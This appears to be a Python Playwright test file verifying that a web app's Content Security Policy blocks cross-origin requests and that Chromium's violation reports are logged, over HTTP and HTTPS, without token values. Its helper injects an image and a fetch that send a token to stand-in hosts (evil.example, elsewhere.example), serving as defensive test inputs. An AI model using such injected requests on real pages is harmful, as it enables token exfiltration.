"""What a page's policy forbids, Chromium reports: one line in the console's log for each."""

import io
from contextlib import closing

from flask import Flask
from playwright.sync_api import Page

from tests.browser.conftest import Launch, open_page
from tests.conftest import Console
from tests.processes.waiting import wait_for
from tests.sandbox.unreachable import self_signed
from tests.web.apps import app_of
from tests.web.test_reports import logged
from webapp.sandbox.server import Server


def break_the_policy(page: Page, logs: io.StringIO, errors: list[str]) -> None:
    """An image of another site, then a request to one: each is blocked, and each is one line."""
    page.goto("/login?next=/connections")
    page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/a?token=b'}))")
    wait_for(lambda: logged(logs))
    page.evaluate("fetch('https://elsewhere.example/c?token=d').catch(() => null)")
    wait_for(lambda: len(logged(logs)) > 1)
    assert logged(logs) == [("img-src", "https://evil.example"), ("connect-src", "https://elsewhere.example")]
    assert "token" not in logs.getvalue()
    assert len(errors) >= 2
    errors.clear()


def test_over_http(page: Page, logs: io.StringIO, browser_errors: list[str]) -> None:
    break_the_policy(page, logs, browser_errors)


def test_over_https(launch: Launch, console: Console, browser_errors: list[str]) -> None:
    """Chromium waits up to a minute to report, unless it is told not to."""
    app: Flask
    logs = io.StringIO()
    server = Server(lambda environ, start_response: app(environ, start_response), ssl_context=self_signed())
    with (
        app_of(console, logs, public_url=server.url) as app,
        closing(launch("--short-reporting-delay", "--ignore-certificate-errors")) as trusting,
        open_page(trusting, server.url, browser_errors) as page,
    ):
        server.start()
        break_the_policy(page, logs, browser_errors)
        server.stop()
